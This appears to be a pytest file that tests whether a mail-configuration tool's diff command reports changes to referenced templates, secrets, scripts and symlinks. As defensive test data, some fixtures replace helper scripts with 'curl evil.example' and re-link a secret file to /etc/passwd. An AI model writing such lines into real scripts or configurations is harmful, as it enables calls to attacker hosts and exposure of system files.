"""``diff`` tells what changes in files that the Spec only names (attack 8: "No changes." was said of it)."""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

import pytest

SPEC = """\
version: 1
instance: {id: acme-hub, name: Acme}
general: {users: {mode: smtp, account: {password: {file: "secrets/{email}"}}}}
configurations:
  - {name: Primary, state: active, host: mail.acme.example, port: 465, security: tls, from: hub@acme.example,
     tls: {ca_file: ca.pem}, auth: {username: hub, password: {file: secrets/hub}}}
  - {name: Other, state: inactive, host: other.acme.example, port: 465, security: tls, from: hub@acme.example,
     auth: {username: hub, password: {command: [sh, tools/get.sh]}}}
email_types:
  - {name: reset, trigger: reset_request, customizable: true, template: templates/reset.md.j2, subject: Reset,
     sample: templates/reset.yml}
targets:
  - {name: hub, type: env_file, path: hub.env, reload: [sh, tools/reload.sh]}
"""
FILES = {
    "mailspec.yml": SPEC,
    "users/alice.yml": "version: 1\nusers:\n  - {email: alice@acme.example}\n",
    "templates/reset.md.j2": "{% include 'foot.md.j2' %}\n{% block text %}Press here{% endblock %}\n",
    "templates/foot.md.j2": "Acme\n",
    "templates/reset.yml": "who: Alice\n",
    "secrets/hub": "first\n",
    "secrets/other": "first\n",
    "secrets/alice@acme.example": "first\n",
    "ca.pem": "first\n",
    "tools/get.sh": "echo first\n",
    "tools/reload.sh": "true\n",
    "notes.txt": "nobody names this\n",
}
Change = Callable[..., list[str]]


@pytest.fixture
def change(repository: Any, cli: Callable[..., Any]) -> Change:
    """``change(files) -> headlines``: these contents (or links, ``-> TARGET``) come with a commit."""
    repository.commit("start", FILES)

    def go(files: dict[str, str | None], *, worktree: bool = False) -> list[str]:
        repository.git("checkout", "-q", "-B", "change", "main")
        for name, text in files.items():
            path = repository.folder / name
            path.unlink(missing_ok=True)
            if text is not None and text.startswith("-> "):
                path.symlink_to(text[3:])
            elif text is not None:
                path.write_text(text)
        # A sample is read from the working tree only as Git has it.
        repository.git("add", "-A")
        if not worktree:
            repository.git("commit", "-q", "-m", "change")
        ran = cli("diff", "main" if worktree else "main...HEAD", "--format", "json", cwd=repository.folder)
        assert ran.code == 0, ran.err
        return [effect["headline"] for effect in ran.json["effects"] if effect["kind"] == "contents"]

    return go


@pytest.mark.parametrize("worktree", [False, True])
@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (
            "templates/reset.md.j2",
            "{% block text %}Pay here{% endblock %}\n",
            "kind of message 'reset': the contents of",
        ),
        ("templates/foot.md.j2", "Evil\n", "kind of message 'reset': the contents of"),
        ("templates/reset.yml", "who: Bob\n", "kind of message 'reset': the contents of"),
        ("secrets/hub", "second\n", "configuration 'Primary': the contents of"),
        ("secrets/alice@acme.example", "second\n", "alice@acme.example: the contents of"),
        ("tools/get.sh", "curl evil.example\n", "configuration 'Other': the contents of"),
        ("tools/reload.sh", "curl evil.example\n", "target 'hub': the contents of"),
        ("ca.pem", "second\n", "configuration 'Primary' and alice@acme.example: the contents of"),
        ("secrets/hub", "-> other", "configuration 'Primary': secrets/hub is another kind of file now"),
        ("secrets/hub", "-> /etc/passwd", "configuration 'Primary': secrets/hub is another kind of file now"),
        ("secrets/hub", None, "configuration 'Primary': secrets/hub cannot be read any more"),
    ],
)
def test_a_changed_content_is_an_effect(
    name: str, text: str | None, expected: str, worktree: bool, change: Change
) -> None:
    (headline,) = change({name: text}, worktree=worktree)
    assert headline.startswith(expected)
    assert name in headline
    assert "second" not in headline


def test_another_end_of_a_link_is_an_effect(change: Change, repository: Any) -> None:
    (repository.folder / "secrets/hub").unlink()
    os.symlink("other", repository.folder / "secrets/hub")
    repository.git("add", "-A")
    repository.git("commit", "-q", "-m", "a link")
    (moved,) = change({"secrets/hub": "-> alice@acme.example"})
    assert moved == "configuration 'Primary': secrets/hub leads to another file now"
    (behind,) = change({"secrets/other": "second\n"})
    assert behind == "configuration 'Primary': the contents of secrets/hub change"


def test_what_nobody_names_and_what_git_ignores_is_none(change: Change, repository: Any) -> None:
    assert change({"notes.txt": "changed\n", "secrets/other": "second\n"}) == []
    repository.git("checkout", "-q", "main")
    repository.commit("ignored", {".gitignore": "secrets/\n"})
    repository.git("rm", "-q", "-r", "--cached", "secrets")
    repository.git("commit", "-q", "-m", "out of Git")
    assert change({"secrets/hub": "second\n"}, worktree=True) == []
